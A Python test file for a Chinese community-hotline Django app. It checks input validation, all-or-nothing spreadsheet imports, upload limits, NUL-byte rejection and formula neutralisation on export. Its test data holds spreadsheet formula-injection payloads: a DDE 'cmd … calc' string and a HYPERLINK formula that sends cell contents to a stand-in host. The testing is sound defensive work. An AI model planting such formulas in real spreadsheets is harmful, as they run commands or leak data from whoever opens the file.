"""Bad input, property-based: every parser answers a value or a clear Chinese error, never a crash; imports are
all or nothing; formula text from users is stored as text (or refused) and never evaluated; exports neutralise
cells that Excel/WPS would run as formulas."""

import re
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from community.plates import parse_plate
from community.rules import validate_temperature
from core.cells import safe, safe_row
from core.person import validate_id_card, validate_mobile, validate_phone

CJK = re.compile(r"[\u4e00-\u9fff]")
FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A2)",
            "=1+1", "\t=1+1"]
texts = st.one_of(st.text(max_size=40), st.sampled_from(FORMULAS), st.from_regex(r"1[3-9]\d{9}", fullmatch=True),
                  st.from_regex(r"\d{17}[\dXx]", fullmatch=True), st.text(alphabet="0123456789-+ ()", max_size=20))
FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _chinese_error(exc):
    message = " ".join(exc.messages)
    assert CJK.search(message), message


@FAST
@given(texts)
def test_phone_and_id_validators_answer_a_value_or_a_chinese_error(raw):
    for validator in (validate_phone, validate_mobile, validate_id_card):
        try:
            value = validator(raw)
        except ValidationError as exc:
            _chinese_error(exc)
        else:
            assert isinstance(value, str) and value and value.replace("-", "").replace("X", "").isdigit()


@FAST
@given(st.one_of(texts, st.floats(allow_nan=True, allow_infinity=True), st.integers(), st.none(),
                 st.decimals(allow_nan=True)))
def test_temperature_is_a_decimal_in_range_or_a_chinese_error(raw):
    try:
        value = validate_temperature(raw)
    except ValidationError as exc:
        _chinese_error(exc)
    else:
        assert isinstance(value, Decimal) and Decimal("34") <= value <= Decimal("43")


@FAST
@given(st.one_of(texts, st.text(alphabet="苏沪京浙皖鲁豫ABCDEFGHJKLMNPQRSTUVWXYZ0123456789·- 学警挂", max_size=12)))
def test_plate_parser_never_crashes_and_explains_a_refusal(raw):
    plate = parse_plate(raw)
    if plate.valid:
        assert plate.plate and " " not in plate.plate
    else:
        assert raw.strip() == "" or CJK.search(plate.reason), (raw, plate.reason)


@given(st.text(max_size=30))
def test_export_cells_never_start_a_formula(text):
    cell = safe(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.endswith(text)


def test_exported_workbook_keeps_formula_text_as_text():
    book = Workbook()
    book.active.append(safe_row(FORMULAS))
    out = BytesIO()
    book.save(out)
    cells = next(load_workbook(BytesIO(out.getvalue())).active.iter_rows())
    assert all(c.data_type == "s" for c in cells)  # strings, not formulas ('f')


def _orders_file(rows, header=None):
    from hotline.services.imports import COLUMNS

    book = Workbook()
    sheet = book.active
    sheet.append(header or [c[0] for c in COLUMNS])
    for row in rows:
        sheet.append(row)
    out = BytesIO()
    book.save(out)
    out.seek(0)
    return out


def _row(content="居民咨询隔离政策", when="2020-02-07 09:30", external="", phone="13912345678"):
    return [external, when, "电话", "咨询", "EP-POLICY", "张三", phone, "", "永和佳苑", content, "", "", ""]


@pytest.fixture
def order_count(db):
    from hotline.models import WorkOrder

    return WorkOrder.objects.count


@pytest.mark.parametrize("payload", [b"", b"not an excel file", b"PK\x03\x04garbage", "=cmd|' /C calc'!A0".encode()])
def test_order_import_refuses_unreadable_files_in_chinese(personas, order_count, payload):
    from hotline.services.imports import ImportFailed, import_orders

    with pytest.raises(ImportFailed) as exc:
        import_orders(personas.operator, BytesIO(payload))
    _chinese_error(exc.value)
    assert order_count() == 0


@pytest.mark.parametrize("bad", [
    {"when": "昨天下午"}, {"when": "2020-13-45 25:61"}, {"phone": "一三九"}, {"content": ""},
    {"external": "X1"},  # duplicated below in the same file
])
def test_a_bad_row_anywhere_writes_nothing(personas, order_count, bad):
    from hotline.services.imports import ImportFailed, import_orders

    rows = [_row(external="X1"), _row(), _row(**bad)]
    with pytest.raises(ImportFailed) as exc:
        import_orders(personas.operator, _orders_file(rows))
    _chinese_error(exc.value)
    assert "第" in str(exc.value) and order_count() == 0


def test_wrong_types_and_wrong_header_are_refused(personas, order_count):
    from hotline.services.imports import ImportFailed, import_orders

    with pytest.raises(ImportFailed):
        import_orders(personas.operator, _orders_file([_row()], header=["a", "b"]))
    with pytest.raises(ImportFailed):
        import_orders(personas.operator, _orders_file([[12, 3.5, True, None, 7, 8, 9, 10, 11, 12, 13, 14, 15]]))
    assert order_count() == 0


def test_formula_text_in_an_import_is_stored_as_text_or_refused_never_evaluated(personas, order_count):
    from hotline.models import WorkOrder
    from hotline.services.imports import ImportFailed, import_orders

    rows = [_row(content=f) for f in FORMULAS]
    try:
        import_orders(personas.operator, _orders_file(rows))
    except ImportFailed as exc:
        _chinese_error(exc)
        assert order_count() == 0
    else:
        stored = set(WorkOrder.objects.values_list("content", flat=True))
        assert stored <= set(FORMULAS) | {f.strip() for f in FORMULAS}
        assert "2" not in stored and "calc" not in "".join(s for s in stored if not s.startswith(("=", "+", "-", "@")))


def test_huge_import_is_refused_before_anything_is_written(personas, order_count, monkeypatch):
    from hotline.services import imports

    monkeypatch.setattr(imports, "MAX_ROWS", 20)
    with pytest.raises(imports.ImportFailed) as exc:
        imports.import_orders(personas.operator, _orders_file([_row() for _ in range(25)]))
    _chinese_error(exc.value)
    assert order_count() == 0


def test_residents_import_of_garbage_writes_nothing(personas, org):
    from community.models import Resident
    from community.services.residents import ImportFailed, import_residents

    before = Resident.objects.count()
    with pytest.raises(ImportFailed):
        import_residents(personas.yh_worker, org.yonghe_jiayuan, BytesIO(b"garbage"))
    book = Workbook()
    book.active.append(["楼栋", "单元", "房号", "姓名", "电话", "身份证号", "与户主关系", "老人"])
    book.active.append(["3", "2", "301", "张三", "13800000000", "", "户主", ""])
    book.active.append(["3", "2", "302", "=cmd|' /C calc'!A0", "138", "12345", "户主", ""])
    out = BytesIO()
    book.save(out)
    out.seek(0)
    with pytest.raises(ImportFailed):
        import_residents(personas.yh_worker, org.yonghe_jiayuan, out)
    assert Resident.objects.count() == before


def test_upload_size_limits_are_set(settings):
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 10 * 1024 * 1024
    assert getattr(settings, "FILE_UPLOAD_MAX_MEMORY_SIZE", 2621440) <= 10 * 1024 * 1024


def test_an_oversized_upload_is_refused_before_it_is_read(client, personas, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.SHOUHU_MAX_REQUEST_BYTES = 50_000
    client.force_login(personas.operator)
    big = SimpleUploadedFile("orders.xlsx", b"x" * 60_000)
    response = client.post("/hotline/import/", {"file": big})
    assert response.status_code == 413 and "上传的内容过大" in response.content.decode()
    api = client.post("/api/v1/hotline/orders/", {"content": "x" * 60_000}, content_type="application/json")
    assert api.status_code == 413 and "上传的内容过大" in api.json()["detail"]


@pytest.mark.parametrize("payload", [b"GIF89a not really", b"%PDF-1.4", b"\x89PNG\r\n\x1a\n broken"])
def test_a_photo_that_is_not_a_real_image_is_refused(payload):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from community.services.doorstep import validate_photo

    with pytest.raises(ValidationError) as exc:
        validate_photo(SimpleUploadedFile("a.jpg", payload, content_type="image/jpeg"))
    _chinese_error(exc.value)


@pytest.mark.parametrize("body", ["null", "[]", "[{\"gate\": 1}]", "true", "42", "\"永和佳苑\""])
@pytest.mark.parametrize("url", ["/api/v1/community/entries/", "/api/v1/community/checks/",
                                 "/api/v1/community/inspections/", "/api/v1/hotline/orders/"])
def test_api_bodies_that_are_not_json_objects_are_refused_in_chinese(client, personas, url, body):
    client.force_login(personas.yh_worker if "community" in url else personas.operator)
    response = client.post(url, body, content_type="application/json")
    assert response.status_code == 400
    assert "JSON 对象" in response.json()["detail"]


@pytest.mark.parametrize("method, url, kwargs", [
    ("get", "/api/v1/volunteers/on-duty/?unit=%00", {}),
    ("get", "/hotline/?q=a%00b", {}),
    ("post", "/api/v1/hotline/orders/", {"data": '{"content": "口罩\\u0000涨价"}', "content_type": "application/json"}),
    ("post", "/hotline/intake/", {"data": "content=a%00b", "content_type": "application/x-www-form-urlencoded"}),
])
def test_a_nul_character_anywhere_is_a_chinese_400_before_any_view(client, personas, method, url, kwargs):
    client.force_login(personas.operator)
    response = getattr(client, method)(url, **kwargs)
    assert response.status_code == 400 and "空字符" in response.content.decode()
